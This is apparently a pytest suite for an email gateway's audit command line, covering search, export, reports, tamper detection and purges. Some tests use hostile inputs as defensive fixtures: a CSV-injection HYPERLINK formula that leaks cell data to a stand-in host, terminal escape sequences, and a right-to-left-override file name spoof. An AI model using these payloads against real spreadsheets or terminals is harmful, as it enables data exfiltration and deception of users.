"""`gateway audit ...` through gateway.cli.main, as an auditor runs it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import secrets
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from audit_support import life, make_record, owner_tamper
from gwtest import REPO, clean_env, run_cli
from sqlalchemy import text

from gateway.audit import (
    AuditAttachment,
    AuditEvent,
    AuditRecipient,
    AuditRecord,
    AuditTrail,
    EventType,
)
from gateway.cli import main
from gateway.db import create_engine
from gateway.queue import Writer

NOW = datetime.now(UTC).replace(microsecond=0)


def write_config(tmp_path: Path, url: str, extra: str = "") -> str:
    (tmp_path / "recipients.csv").write_text(
        "address,name,job_title,department,organisation,telephone,secure_route\n",
        encoding="utf-8",
    )
    config = tmp_path / "gateway.toml"
    config.write_text(f'[database]\nurl = "{url}"\n\n[audit]\nretention = "6y"\n{extra}',
                      encoding="utf-8")
    return str(config)


def seed(url: str) -> None:
    """Three messages: a protected one confirmed delivered, a rejected one,
    an old one (eight years ago) never confirmed."""

    async def run() -> None:
        engine = create_engine(url)
        writer = Writer(engine)
        writer.start()
        trail = AuditTrail()
        confirmed = make_record("cli-confirmed", received_at=NOW - timedelta(days=1))
        rejected = make_record(
            "cli-rejected", received_at=NOW - timedelta(hours=2), verdict="reject",
            sender="bob@council.example",
            recipients=(AuditRecipient("someone@gmail.example"),),
            information_types=("special_category",),
            marking=None, purpose="Quick question",
        )
        old = make_record("cli-old", received_at=NOW - timedelta(days=8 * 365))
        for record in (old, confirmed, rejected):
            await writer.submit(trail.record_op(record, life(record)))
        await writer.submit(trail.events_op(confirmed.id, [
            AuditEvent(EventType.RELAYED, NOW - timedelta(days=1) + timedelta(seconds=1)),
            AuditEvent(EventType.DELIVERY_CONFIRMED, NOW - timedelta(hours=20)),
        ]))
        await writer.stop()
        await engine.dispose()

    asyncio.run(run())


@pytest.fixture
def config(tmp_path: Path, db_url: str) -> str:
    seed(db_url)
    return write_config(tmp_path, db_url)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_search_json_is_the_design_record(config, capsys):
    code, out, _ = run(capsys, "audit", "search", "--recipient", "DR.JONES@nhs.example",
                       "--format", "json", "--config", config)
    assert code == 0
    lines = [json.loads(line) for line in out.splitlines()]
    assert [d["id"] for d in lines] == ["cli-confirmed", "cli-old"]  # newest first
    assert list(lines[0]) == [
        "id", "message_id", "received_at", "sender", "recipients", "subject", "purpose",
        "consent", "authorised_by", "information_types", "marking", "verdict", "reasons",
        "method", "attachments", "events", "authorised_by_stated", "outcome", "decided_by",
    ]
    assert lines[0]["events"][-1] == {
        "at": (NOW - timedelta(hours=20)).isoformat(), "type": "delivery_confirmed",
        "detail": {},
    }
    assert set(lines[0]["events"][0]) == {"at", "type", "detail"}


@pytest.mark.parametrize(("args", "expected"), [
    (["--since", "30d"], ["cli-rejected", "cli-confirmed"]),
    (["--until", (NOW - timedelta(days=365)).date().isoformat()], ["cli-old"]),
    (["--sender", "BOB@council.example"], ["cli-rejected"]),
    (["--recipient", "*@gmail.example"], ["cli-rejected"]),
    (["--organisation", "riverside nhs trust", "--since", "30d"], ["cli-confirmed"]),
    (["--type", "special_category"], ["cli-rejected"]),
    (["--marking", "official-sensitive"], ["cli-confirmed", "cli-old"]),
    (["--verdict", "reject"], ["cli-rejected"]),
    (["--reason", "unencrypted_attachment", "--since", "30d"], ["cli-rejected", "cli-confirmed"]),
    (["--purpose", "case CONFERENCE"], ["cli-confirmed", "cli-old"]),
    (["--event", "never:delivery_confirmed"], ["cli-rejected", "cli-old"]),
    (["--event", "has:delivery_confirmed"], ["cli-confirmed"]),
    (["--event", "never:relayed", "--verdict", "protect"], ["cli-old"]),
    (["--limit", "1"], ["cli-rejected"]),
])
def test_search_filters(config, capsys, args, expected):
    code, out, _ = run(capsys, "audit", "search", *args, "--format", "json", "--config", config)
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == expected


def test_search_table_and_csv(config, capsys):
    code, out, _ = run(capsys, "audit", "search", "--config", config)
    assert code == 0
    assert out.splitlines()[0].startswith("RECEIVED (UTC)")
    assert "cli-confirmed" in out and out.rstrip().endswith("3 record(s)")
    code, out, _ = run(capsys, "audit", "search", "--format", "csv", "--verdict", "protect",
                       "--config", config)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["id"] for r in rows] == ["cli-confirmed", "cli-old"]
    assert rows[0]["recipient_organisations"] == "Riverside NHS Trust"
    assert rows[0]["recipient_telephones"] == "01632 960001"
    assert rows[0]["events"].startswith("received@")


def test_bad_arguments_exit_2(config, capsys):
    with pytest.raises(SystemExit) as exited:
        main(["audit", "search", "--event", "sometimes:relayed", "--config", config])
    assert exited.value.code == 2
    assert "has:TYPE or never:TYPE" in capsys.readouterr().err


@pytest.mark.parametrize("option,value", [
    ("--since", "99999999d"), ("--since", "1000000000000d"), ("--until", "9999-12-31"),
    ("--since", "0001-01-01T00:00+01:00"),
])
def test_a_time_past_the_calendar_exits_2_in_one_line(config, capsys, option, value):
    with pytest.raises(SystemExit) as exited:
        main(["audit", "search", option, value, "--config", config])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert f"argument {option}: {value!r} is out of range" in err


def test_show_prints_the_timeline(config, capsys):
    code, out, _ = run(capsys, "audit", "show", "cli-confirmed", "--config", config)
    assert code == 0
    assert "Dr.Jones@nhs.example  (Dr Rhys Jones, Named GP for safeguarding" in out
    timeline = out.split("Timeline (UTC)")[1].split()
    types = [w for w in timeline if w in {t.value for t in EventType}]
    assert types == ["received", "password_held", "queued", "relayed", "delivery_confirmed"]
    code, out, _ = run(capsys, "audit", "show", "cli-confirmed", "--format", "json",
                       "--config", config)
    assert json.loads(out)["events"][0]["detail"] == {"size": 2048}
    code, _, err = run(capsys, "audit", "show", "nope", "--config", config)
    assert code == 1 and "no audit record nope" in err


def test_export_jsonl_and_csv_with_progress(config, capsys, tmp_path):
    code, out, err = run(capsys, "audit", "export", "--config", config)
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == [
        "cli-old", "cli-confirmed", "cli-rejected"
    ]
    assert "export [" in err and "100% 3/3" in err
    target = tmp_path / "all.csv"
    code, out, err = run(capsys, "audit", "export", "--format", "csv", "--output", str(target),
                         "--config", config)
    assert code == 0 and out == ""
    assert len(list(csv.DictReader(target.open(encoding="utf-8")))) == 3
    assert f"exported 3 record(s) to {target}" in err


def test_report(config, capsys):
    code, out, _ = run(capsys, "audit", "report", "--since", "30d", "--format", "json",
                       "--config", config)
    assert code == 0
    report = json.loads(out)
    assert report["records"] == 2
    assert report["by_verdict"] == {"protect": 1, "reject": 1}
    assert report["by_reason"] == {"unencrypted_attachment": 2}
    assert report["by_information_type"] == {
        "date_of_birth": 1, "special_category": 1, "uk_nhs_number": 1
    }
    assert report["by_organisation"] == {"Riverside NHS Trust": 1}
    assert report["by_sender"] == {"alice.smith@council.example": 1, "bob@council.example": 1}
    assert report["by_event"]["delivery_confirmed"] == 1
    code, out, _ = run(capsys, "audit", "report", "--config", config)
    assert "Records: 3" in out and "Recipient organisation" in out
    assert out.startswith("Audit report: from the beginning to now (UTC)\n")
    # A quarter: its end is exclusive, said "before", not "to".
    code, out, _ = run(capsys, "audit", "report", "--since", "2026-04-01", "--until",
                       "2026-06-30", "--config", config)
    assert out.startswith("Audit report: from 2026-04-01T00:00:00+00:00 before "
                          "2026-07-01T00:00:00+00:00 (UTC)\n")


def test_verify_purge_verify(config, capsys, db_url):
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 0 and out.startswith("audit trail verified")
    code, out, _ = run(capsys, "audit", "purge", "--dry-run", "--config", config)
    assert code == 0 and "would remove 1 record(s) and 3 event(s)" in out
    code, out, _ = run(capsys, "audit", "purge", "--config", config)
    assert code == 0 and "removed 1 record(s) and 3 event(s)" in out
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 0, out
    assert "purged up to seq 1" in out  # the old record, its events kept in its row
    code, out, _ = run(capsys, "audit", "search", "--format", "json", "--config", config)
    assert "cli-old" not in out


def test_purge_takes_the_old_finished_messages_queue_rows_too(config, capsys, db_url):
    """The old record's message is still in the queue's table, delivered:
    its envelope and recipient go with the record, and the output says so."""
    old = (NOW - timedelta(days=8 * 365)).timestamp()

    async def queue_rows(statement: str) -> list[str]:
        engine = create_engine(db_url)
        try:
            async with engine.begin() as conn:
                if statement:
                    await conn.execute(text(statement), {"at": old})
                    await conn.execute(text(
                        "INSERT INTO queue_recipients (message_id, position, address, state,"
                        " route) VALUES ('cli-old', 0, 'dr.jones@nhs.example', 'delivered',"
                        " 'upstream')"))
                return list((await conn.execute(text("SELECT id FROM queue_messages"))).scalars())
        finally:
            await engine.dispose()

    assert asyncio.run(queue_rows(
        "INSERT INTO queue_messages (id, created_at, mail_from, envelope, size, state,"
        " attempts, next_attempt_at, updated_at) VALUES ('cli-old', :at,"
        " 'alice.smith@council.example', '{}', 0, 'delivered', 1, :at, :at)"
    )) == ["cli-old"]
    code, out, _ = run(capsys, "audit", "purge", "--dry-run", "--config", config)
    assert code == 0
    assert ("would remove the finished messages' other rows: 1 queue recipient row(s), "
            "1 queue message(s)") in out
    code, out, _ = run(capsys, "audit", "purge", "--config", config)
    assert code == 0 and "removed 1 record(s) and 3 event(s)" in out
    assert "removed the finished messages' other rows: 1 queue recipient row(s)" in out
    assert asyncio.run(queue_rows("")) == []
    code, out, _ = run(capsys, "audit", "purge", "--config", config)
    assert code == 0 and out.startswith("nothing to purge: no audit rows or finished messages")


def test_verify_names_tampering_and_exits_1(config, capsys, db_url):
    async def edit() -> None:
        engine = create_engine(db_url)
        # (the append-only triggers out of the way, and back as they were)
        await owner_tamper(engine)(
            "UPDATE audit_records SET document = replace(document, 'J Patel', 'Nobody') "
            "WHERE id = 'cli-confirmed'")
        await engine.dispose()

    asyncio.run(edit())
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 1
    assert "audit trail FAILED verification:\n  record cli-confirmed (seq 2) edited" in out

    # A purge will not cut the trail while it does not verify; --force does,
    # saying so.  (The edited record is recent: it stays, and so does the
    # problem.)
    with pytest.raises(SystemExit) as exited:
        main(["audit", "purge", "--config", config])
    out, err = capsys.readouterr()
    assert exited.value.code == 1 and out == ""
    assert err.startswith("error: the audit trail does not verify, so nothing was purged")
    assert "record cli-confirmed (seq 2) edited" in err and "--force" in err
    code, out, err = run(capsys, "audit", "purge", "--force", "--config", config)
    assert code == 0 and "removed 1 record(s) and 3 event(s)" in out
    assert "warning: the trail does not verify (1 problem(s)); purging all the same" in err


@pytest.mark.parametrize("workers", ["1", "3"])
def test_verify_on_several_connections(config, capsys, db_url, workers):
    code, out, _ = run(capsys, "audit", "verify", "--workers", workers, "--config", config)
    assert code == 0 and out.startswith("audit trail verified"), out
    # the life's events are kept in the records' rows: two later events
    assert "3 records, 2 event rows (seq 1-5)" in out


@pytest.mark.parametrize("workers", ["0", "17", "two"])
def test_verify_refuses_a_bad_number_of_workers(config, capsys, workers):
    with pytest.raises(SystemExit) as exited:
        main(["audit", "verify", "--workers", workers, "--config", config])
    assert exited.value.code == 2
    assert "--workers" in capsys.readouterr().err


def test_checkpoint_gives_an_anchor_that_verify_checks(config, capsys, db_url):
    code, out, _ = run(capsys, "audit", "checkpoint", "--config", config)
    assert code == 0
    (given,) = [line.split()[1] for line in out.splitlines() if line.startswith("anchor: ")]
    code, out, _ = run(capsys, "audit", "verify", "--anchor", given, "--config", config)
    assert code == 0, out

    async def cut_tail() -> None:  # the last event and the checkpoint after it
        engine = create_engine(db_url)
        await owner_tamper(engine)("DELETE FROM audit_events WHERE seq = 5",
                                   "DELETE FROM audit_checkpoints")
        await engine.dispose()

    asyncio.run(cut_tail())
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 0  # nothing left in the database shows it
    code, out, _ = run(capsys, "audit", "verify", "--anchor", given, "--config", config)
    assert code == 1
    assert "  rows after seq 4 missing: the anchor at seq 5" in out


@pytest.mark.parametrize("given", ["5", "0:" + "a" * 64, "5:" + "a" * 63, "x:" + "a" * 64,
                                   "5:" + "g" * 64])
def test_a_malformed_anchor_exits_2(config, capsys, given):
    with pytest.raises(SystemExit) as exited:
        main(["audit", "verify", "--anchor", given, "--config", config])
    assert exited.value.code == 2
    assert "not SEQ:HASH" in capsys.readouterr().err


def test_signed_checkpoints_with_a_key(tmp_path, db_url, capsys, monkeypatch):
    seed(db_url)
    (tmp_path / "audit.key").write_text("x" * 44 + "\n", encoding="utf-8")
    config = write_config(tmp_path, db_url, 'key_file = "audit.key"\n')
    code, out, _ = run(capsys, "audit", "checkpoint", "--config", config)
    assert code == 0 and "checkpoint #1 at seq 5" in out and "signed with key" in out
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 0 and "1 signature(s) verified" in out
    # The same key from the environment instead of the file.
    plain = write_config(tmp_path, db_url)
    monkeypatch.setenv("GATEWAY_AUDIT_KEY", "x" * 44)
    code, out, _ = run(capsys, "audit", "verify", "--config", plain)
    assert code == 0 and "1 signature(s) verified" in out
    monkeypatch.setenv("GATEWAY_AUDIT_KEY", "short")
    with pytest.raises(SystemExit) as exited:
        main(["audit", "verify", "--config", plain])
    assert exited.value.code == 1
    assert "too short" in capsys.readouterr().err


def test_a_record_edited_outside_the_gateway_is_shown_marked(config, capsys, tamper):
    # Its document edited out of shape by someone who set the triggers aside:
    # show, search and export still answer, mark it and say so.
    asyncio.run(tamper("UPDATE audit_records SET document = '{\"recipients\": 5}'"
                       " WHERE id = 'cli-confirmed'"))
    code, out, err = run(capsys, "audit", "show", "cli-confirmed", "--config", config)
    assert code == 0
    assert "DAMAGED        document: not as the gateway wrote it" in out
    assert "delivery_confirmed" in out.split("Timeline (UTC)")[1]
    assert "warning: 1 record(s) shown in part" in err and "gateway audit verify" in err
    code, out, err = run(capsys, "audit", "export", "--no-progress", "--config", config)
    assert code == 0
    exported = [json.loads(line) for line in out.splitlines()]
    assert [(d["id"], d.get("damaged")) for d in exported] == [
        ("cli-old", None), ("cli-confirmed", ["document"]), ("cli-rejected", None)]
    assert "warning: 1 record(s) shown in part" in err
    code, out, err = run(capsys, "audit", "search", "--since", "30d", "--config", config)
    assert code == 0 and "2 record(s)" in out and "warning: 1 record(s)" in err
    code, out, _ = run(capsys, "audit", "verify", "--config", config)
    assert code == 1 and "record cli-confirmed" in out and "edited" in out


def test_csv_marks_a_damaged_record_in_its_last_column(config, capsys, tamper):
    # JSON says "damaged": [...]; a spreadsheet must say it as plainly.
    asyncio.run(tamper("UPDATE audit_records SET document = '{\"recipients\": 5}'"
                       " WHERE id = 'cli-confirmed'"))
    for command in (["search", "--since", "30d", "--format", "csv"],
                    ["export", "--no-progress", "--format", "csv"]):
        code, out, err = run(capsys, "audit", *command, "--config", config)
        assert code == 0 and "warning: 1 record(s) shown in part" in err
        header, *rows = list(csv.reader(io.StringIO(out)))
        assert header[-1] == "damaged"
        assert {row[0]: row[-1] for row in rows}["cli-confirmed"] == "document"
        assert {row[-1] for row in rows if row[0] != "cli-confirmed"} == {""}


def append(url: str, record: AuditRecord) -> None:
    """One more record, with its life, as the gateway writes it."""

    async def write() -> None:
        engine = create_engine(url)
        writer = Writer(engine)
        writer.start()
        await writer.submit(AuditTrail().record_op(record, life(record)))
        await writer.stop()
        await engine.dispose()

    asyncio.run(write())


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, db_url, capsys):
    """The CSV is for Excel.  A cell starting =, +, -, @ (or a tab or CR) is
    read there as a formula: a subject from mail could run one (CSV
    injection), and a telephone number such as +44 ... shows as an error.
    Such cells are written with a leading apostrophe; JSON keeps the text."""
    from dataclasses import replace

    subject = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    record = replace(
        make_record("cli-formula", received_at=NOW - timedelta(hours=1)),
        subject=subject,
        purpose="+SUM(1,2)",
        authorised_by="-2+3",
        recipients=(AuditRecipient("Dr.Jones@nhs.example", "Dr Rhys Jones", "Named GP",
                                   "Safeguarding", "@Riverside", "+44 1632 960002"),),
        attachments=(AuditAttachment("\tcmd.zip", "application/zip", "aes-256", True),),
    )

    append(db_url, record)
    config = write_config(tmp_path, db_url)
    code, out, _ = run(capsys, "audit", "search", "--format", "csv", "--since", "1d",
                       "--config", config)
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["subject"] == "'" + subject
    assert row["purpose"] == "'+SUM(1,2)"
    assert row["authorised_by"] == "'-2+3"
    assert row["recipient_organisations"] == "'@Riverside"
    assert row["recipient_telephones"] == "'+44 1632 960002"
    assert row["attachments"].startswith("'\tcmd.zip")
    assert row["id"] == "cli-formula" and row["sender"] == record.sender  # the rest as it was
    code, out, _ = run(capsys, "audit", "search", "--format", "json", "--since", "1d",
                       "--config", config)
    (document,) = [json.loads(line) for line in out.splitlines()]
    assert document["subject"] == subject
    assert document["recipients"][0]["telephone"] == "+44 1632 960002"


def test_show_and_search_name_the_characters_that_would_drive_the_terminal(
    tmp_path, db_url, capsys
):
    """A subject decoded from an encoded-word may hold escape sequences (a
    window title set, the screen cleared) and a file name a right-to-left
    override ("invoice<RLO>fdp.exe" reads "invoiceexe.pdf").  The auditor's
    terminal is shown their names; JSON keeps the text as recorded."""
    from dataclasses import replace

    subject = "Minutes\x1b]0;all clear\x07\x1b[2J"
    spoof = "invoice\u202efdp.exe"
    record = replace(
        make_record("cli-escapes", received_at=NOW - timedelta(hours=1),
                    sender="\u202emoc.elpmaxe@eve"),
        subject=subject,
        attachments=(AuditAttachment(spoof, "application/octet-stream", "none", False),),
    )

    append(db_url, record)
    config = write_config(tmp_path, db_url)
    code, out, _ = run(capsys, "audit", "show", "cli-escapes", "--config", config)
    assert code == 0
    assert "Minutes<U+001B>]0;all clear<U+0007><U+001B>[2J" in out
    assert "invoice<U+202E>fdp.exe" in out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    code, out, _ = run(capsys, "audit", "search", "--since", "1d", "--config", config)
    assert code == 0
    assert "<U+202E>moc.elpmaxe@eve" in out and "\u202e" not in out
    code, out, _ = run(capsys, "audit", "report", "--since", "1d", "--config", config)
    assert code == 0
    assert "<U+202E>moc.elpmaxe@eve" in out and "\u202e" not in out  # by sender
    code, out, _ = run(capsys, "audit", "show", "cli-escapes", "--format", "json",
                       "--config", config)
    document = json.loads(out)
    assert document["subject"] == subject
    assert document["attachments"][0]["filename"] == spoof


def test_export_to_a_file_is_private_and_whole(config, capsys, tmp_path):
    """The export holds recipients' names and telephone numbers: the file is
    its owner's alone (0600, whatever the umask), and it appears only
    complete, beside no partial file."""
    target = tmp_path / "trail.jsonl"
    code, _, err = run(capsys, "audit", "export", "--output", str(target), "--no-progress",
                       "--config", config)
    assert code == 0, err
    assert target.stat().st_mode & 0o777 == 0o600
    assert len(target.read_text(encoding="utf-8").splitlines()) == 3
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_an_export_cut_short_leaves_the_previous_file_and_no_partial_one(
    config, capsys, tmp_path, monkeypatch
):
    """The database lost after the first record: exit 75 (the database's
    failure, not tampering), the file from the last export untouched."""
    from sqlalchemy.exc import OperationalError

    from gateway.audit import query as query_module

    exported = query_module.AuditQuery.export

    async def lost_after_one(self):  # the connection dropped mid-export
        async for document in exported(self):
            yield document
            raise OperationalError("SELECT ...", {}, ConnectionResetError(104, "reset"))

    monkeypatch.setattr(query_module.AuditQuery, "export", lost_after_one)
    target = tmp_path / "trail.csv"
    target.write_text("last quarter's export\n", encoding="utf-8")
    with pytest.raises(SystemExit) as exited:
        main(["audit", "export", "--format", "csv", "--output", str(target), "--no-progress",
              "--config", config])
    assert exited.value.code == 75
    err = capsys.readouterr().err
    assert "the database could not be used (ConnectionResetError: [Errno 104] reset)" in err
    assert "SELECT" not in err  # never the statement or its parameters
    assert target.read_text(encoding="utf-8") == "last quarter's export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")] == []


def test_an_export_to_a_folder_that_is_not_there_is_a_clear_error(config, capsys, tmp_path):
    code, _, err = run(capsys, "audit", "export", "--output", str(tmp_path / "no" / "x.csv"),
                       "--config", config)
    assert code == 1
    assert f"error: cannot write {tmp_path / 'no' / 'x.csv'}: No such file or directory" in err


@pytest.mark.parametrize("argv", [
    ["audit", "verify"], ["audit", "search"], ["audit", "report", "--since", "30d"],
    ["queue", "list"], ["held", "list"], ["passwords", "list"],
])
def test_a_database_that_cannot_be_reached_is_one_line_and_exit_75(tmp_path, argv):
    """Not a traceback, and not verify's 1 (which means tampering): a cron
    job watching `audit verify` can tell an outage from a forged trail."""
    config = write_config(tmp_path, "postgresql+asyncpg://postgres@127.0.0.1:9/nowhere")
    result = run_cli(*argv, config=Path(config))
    assert result.returncode == 75, result.stderr
    assert result.stderr.startswith("error: the database could not be used (")
    assert "ConnectionRefusedError" in result.stderr and "Traceback" not in result.stderr
    assert "gateway db upgrade" in result.stderr


def test_a_database_without_the_schema_says_so(tmp_path, capsys):
    (tmp_path / "empty.db").touch(mode=0o600)
    config = write_config(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'empty.db'}")
    with pytest.raises(SystemExit) as exited:
        main(["audit", "search", "--config", config])
    assert exited.value.code == 75
    err = capsys.readouterr().err
    assert "the database has no gateway schema" in err and "gateway db upgrade" in err


@pytest.mark.parametrize("argv", [
    ["audit", "verify"], ["audit", "search"], ["audit", "show", "r-1"], ["audit", "export"],
    ["audit", "report", "--since", "30d"], ["audit", "purge"], ["audit", "checkpoint"],
    ["queue", "list"], ["queue", "retry", "q-1"], ["held", "list"],
    ["held", "approve", "q-1", "--by", "A. Approver"], ["passwords", "list"],
])
def test_a_sqlite_file_that_is_not_there_is_named_and_not_made(tmp_path, capsys, monkeypatch,
                                                                argv):
    """A relative path read from another folder (or a mistyped one) made an
    empty database there, and the command then failed for want of tables;
    `gateway db upgrade` run next would have made a second trail."""
    (tmp_path / "var").mkdir()
    monkeypatch.chdir(tmp_path)
    config = write_config(tmp_path, "sqlite+aiosqlite:///var/gateway.db")
    with pytest.raises(SystemExit) as exited:
        main([*argv, "--config", config])
    assert exited.value.code == 75
    err = capsys.readouterr().err
    assert err == (f"error: the database file {tmp_path / 'var' / 'gateway.db'} does not exist: "
                   "check [database] url in the configuration (a relative path is read from "
                   "the folder the command runs in), or create the database with "
                   "`gateway db upgrade`\n")
    assert list((tmp_path / "var").iterdir()) == []


@pytest.mark.parametrize("argv", [
    ["audit", "export", "--no-progress"],
    # About 1 KiB a line: 400 KiB.  (The table, 60 KiB, fits in a pipe: it
    # may all be written before the reader goes, and the command end well.)
    ["audit", "search", "--limit", "400", "--format", "json"],
])
def test_output_read_only_in_part_ends_quietly(tmp_path, db_url, argv):
    """`gateway audit export | head`: the reader goes after one line.  The
    command stops as one ended by SIGPIPE does (141), saying nothing; it
    printed a traceback, and the export blamed the database (exit 75)."""
    async def many() -> None:  # 400 records: more than a pipe's 64 KiB
        engine = create_engine(db_url)
        writer = Writer(engine)
        writer.start()
        trail = AuditTrail()
        ops = [trail.record_op(r, life(r)) for r in (make_record() for _ in range(400))]

        async def all_of_them(conn):  # type: ignore[no-untyped-def]
            for op in ops:
                await op(conn)

        await writer.submit(all_of_them)
        await writer.stop()
        await engine.dispose()

    asyncio.run(many())
    config = write_config(tmp_path, db_url)
    command = subprocess.Popen(
        [sys.executable, "-m", "gateway", *argv, "--config", config],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=clean_env(), cwd=REPO,
    )
    assert command.stdout is not None and command.stderr is not None
    assert command.stdout.readline()
    command.stdout.close()
    assert command.wait(60) == 141
    assert command.stderr.read() == b""


def add_events(url: str, record_id: str, events: list[AuditEvent]) -> None:
    """Events appended to a record later, as the gateway appends them."""

    async def write() -> None:
        engine = create_engine(url)
        writer = Writer(engine)
        writer.start()
        await writer.submit(AuditTrail().events_op(record_id, events))
        await writer.stop()
        await engine.dispose()

    asyncio.run(write())


async def _view_rows(url: str, statement: str) -> list[tuple[object, ...]]:
    engine = create_engine(url)
    try:
        async with engine.connect() as conn:
            return [tuple(row) for row in (await conn.execute(text(statement))).all()]
    finally:
        await engine.dispose()


def test_the_approver_of_a_held_message_is_its_authoriser_for_every_reader(
    tmp_path, db_url, capsys, tamper
):
    """The record is written when the message is held and never changes;
    `gateway held approve --by` appends an `approved` event naming the
    approver (gateway.queue.held).  Search, show, export and the view name
    the approver as `authorised_by`, as the console does, whatever the
    message said (`X-Authorised-By`); show and the view keep what it said."""
    from dataclasses import replace

    claimed = replace(make_record("cli-held-claimed", received_at=NOW - timedelta(hours=1),
                                  verdict="hold"), authorised_by="Head of Service")
    unclaimed = replace(make_record("cli-held-unclaimed", received_at=NOW - timedelta(hours=2),
                                    verdict="hold"), authorised_by=None)
    plain = make_record("cli-not-held", received_at=NOW - timedelta(hours=3))
    for record in (claimed, unclaimed, plain):
        append(db_url, record)
    for record in (claimed, unclaimed):  # the detail gateway.queue.held.decide_held writes
        add_events(db_url, record.id, [AuditEvent(
            EventType.APPROVED, NOW - timedelta(minutes=30),
            {"by": "Sarah Approver", "note": "", "authorised_by": "Sarah Approver"})])
    config = write_config(tmp_path, db_url)
    expected = {"cli-held-claimed": "Sarah Approver", "cli-held-unclaimed": "Sarah Approver",
                "cli-not-held": "J Patel, Team Manager"}

    code, out, _ = run(capsys, "audit", "search", "--format", "json", "--config", config)
    assert code == 0
    assert {d["id"]: d["authorised_by"] for d in map(json.loads, out.splitlines())} == expected
    code, out, _ = run(capsys, "audit", "search", "--format", "csv", "--config", config)
    assert {r["id"]: r["authorised_by"] for r in csv.DictReader(io.StringIO(out))} == expected
    code, out, _ = run(capsys, "audit", "export", "--no-progress", "--config", config)
    assert {d["id"]: d["authorised_by"] for d in map(json.loads, out.splitlines())} == expected
    code, out, _ = run(capsys, "audit", "show", "cli-held-claimed", "--config", config)
    assert code == 0
    assert "  authorised by  Sarah Approver (approved; the message said Head of Service)\n" in out
    code, out, _ = run(capsys, "audit", "show", "cli-held-unclaimed", "--config", config)
    assert "  authorised by  Sarah Approver (approved)\n" in out
    code, out, _ = run(capsys, "audit", "show", "cli-not-held", "--format", "json",
                       "--config", config)
    assert json.loads(out)["authorised_by"] == "J Patel, Team Manager"

    rows = asyncio.run(_view_rows(
        db_url, "SELECT id, authorised_by, authorised_by_stated FROM audit_records_v ORDER BY id"))
    assert rows == [("cli-held-claimed", "Sarah Approver", "Head of Service"),
                    ("cli-held-unclaimed", "Sarah Approver", None),
                    ("cli-not-held", "J Patel, Team Manager", "J Patel, Team Manager")]

    # An approval's detail edited into text that is not JSON (verify names
    # it) names nobody, and does not stop the view or the CLI.
    asyncio.run(tamper("UPDATE audit_events SET detail = 'not json' WHERE type = 'approved'"
                       " AND record_id = 'cli-held-claimed'"))
    rows = asyncio.run(_view_rows(
        db_url, "SELECT authorised_by FROM audit_records_v WHERE id = 'cli-held-claimed'"))
    assert rows == [("Head of Service",)]
    code, out, _ = run(capsys, "audit", "search", "--format", "json", "--config", config)
    assert code == 0
    assert json.loads(out.splitlines()[0])["authorised_by"] == "Head of Service"


def test_limit_counts_records_not_the_spellings_of_a_recipient(tmp_path, db_url, capsys):
    """One message to an address written twice in different case has two
    rows of that key in the search index: it is still one record of N."""
    twice = make_record("cli-twice", received_at=NOW - timedelta(hours=1), recipients=(
        AuditRecipient("referrals@health.example.nhs.uk", organisation="Health Referrals"),
        AuditRecipient("REFERRALS@HEALTH.EXAMPLE.NHS.UK", organisation="HEALTH REFERRALS"),
    ))
    once = make_record("cli-once", received_at=NOW - timedelta(hours=2), recipients=(
        AuditRecipient("Referrals@health.example.nhs.uk", organisation="Health Referrals"),))
    for record in (twice, once):
        append(db_url, record)
    config = write_config(tmp_path, db_url)
    for limit, expected in (("2", ["cli-twice", "cli-once"]), ("1", ["cli-twice"]),
                            ("100", ["cli-twice", "cli-once"])):
        code, out, _ = run(capsys, "audit", "search", "--recipient",
                           "referrals@health.example.nhs.uk", "--limit", limit,
                           "--format", "json", "--config", config)
        assert code == 0
        assert [json.loads(line)["id"] for line in out.splitlines()] == expected
    code, out, _ = run(capsys, "audit", "search", "--organisation", "health referrals",
                       "--limit", "2", "--format", "json", "--config", config)
    assert [json.loads(line)["id"] for line in out.splitlines()] == ["cli-twice", "cli-once"]
    # The report shows organisations as written, each row counting records
    # with that spelling: none twice.
    code, out, _ = run(capsys, "audit", "report", "--format", "json", "--config", config)
    assert json.loads(out)["by_organisation"] == {"Health Referrals": 2, "HEALTH REFERRALS": 1}


@pytest.mark.parametrize(("args", "expected"), [
    (["--purpose", "ÉVALUATION"], ["cli-accents"]),
    (["--purpose", "évaluation"], ["cli-accents"]),
    (["--purpose", "MÉDICALE"], ["cli-accents"]),
    (["--purpose", "médicale 100% URGENT"], ["cli-accents"]),
    (["--purpose", "100_"], []),
    (["--sender", "élodie.dupont@council.example"], ["cli-accents"]),
    (["--sender", "ÉLODIE.DUPONT@COUNCIL.EXAMPLE"], ["cli-accents"]),
    (["--sender", "ÉLODIE*"], ["cli-accents"]),
    (["--sender", "Élodie.Dupont@council.example"], ["cli-accents"]),
])
def test_purpose_and_sender_match_accented_text_in_any_case(tmp_path, db_url, capsys, args,
                                                             expected):
    """SQLite's lower() folds ASCII only: É stayed É in the stored text and
    became é in the text searched for.  Both databases now agree."""
    append(db_url, make_record("cli-accents", received_at=NOW - timedelta(hours=1),
                               sender="Élodie.Dupont@council.example",
                               purpose="ÉVALUATION médicale 100% urgent"))
    append(db_url, make_record("cli-plain", received_at=NOW - timedelta(hours=2),
                               sender="evaluation@council.example",
                               purpose="EVALUATION medicale 1000 urgent"))
